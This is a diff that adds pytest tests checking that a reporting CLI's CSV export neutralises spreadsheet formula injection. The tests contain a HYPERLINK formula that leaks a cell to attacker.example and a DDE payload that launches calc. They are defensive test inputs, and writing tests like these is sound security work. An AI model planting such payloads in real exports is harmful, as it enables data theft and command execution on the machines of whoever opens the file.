@@ -114,3 +114,32 @@ def test_a_lead_writes_a_narrative_from_the_command_line(
     assert refused.exit_code == 1 and "measure of the scorecard" in refused.output
     wrong = cli.invoke(report_cli, ["quarterly", "--quarter", "Q3", "--out", "x.pdf"])
     assert wrong.exit_code == 2 and "2026Q3" in wrong.output
+
+
+def test_a_narrative_that_starts_with_a_formula_comes_out_of_the_csv_as_text(
+    settings_env: Any, app: Assured, tmp_path: Path
+) -> None:
+    """OWASP's CSV injection: a cell starting with =, +, -, @, a tab or a carriage return is
+    run by a spreadsheet. Typed through the lead's own door, it leaves the CSV as text."""
+    record_fixture_year(app)
+    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+    cli = CliRunner()
+    written = cli.invoke(report_cli, ["narrative", "--quarter", "2026Q3", "--measure",
+                                      "drift_cases", "--by", "chair-se", formula])
+    assert written.exit_code == 0, written.output
+    out = tmp_path / "scorecard.csv"
+    made = cli.invoke(report_cli, ["quarterly", "--quarter", "2026Q3", "--format", "csv",
+                                   "--out", str(out)])
+    assert made.exit_code == 0, made.output
+    rows = {r["measure"]: r for r in csv.DictReader(io.StringIO(out.read_text()))}
+    assert rows["drift_cases"]["narrative"] == "'" + formula
+    for row in rows.values():  # and no other cell would run either
+        for cell in row.values():
+            assert not cell.startswith(quarterly.FORMULA_STARTS), cell
+    assert rows["drift_cases"]["numerator"].lstrip("-").isdigit()  # numbers stay numbers
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised(start: str) -> None:
+    assert quarterly.as_text_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
+    assert quarterly.as_text_cell(-3) == -3 and quarterly.as_text_cell("Two cases") == "Two cases"
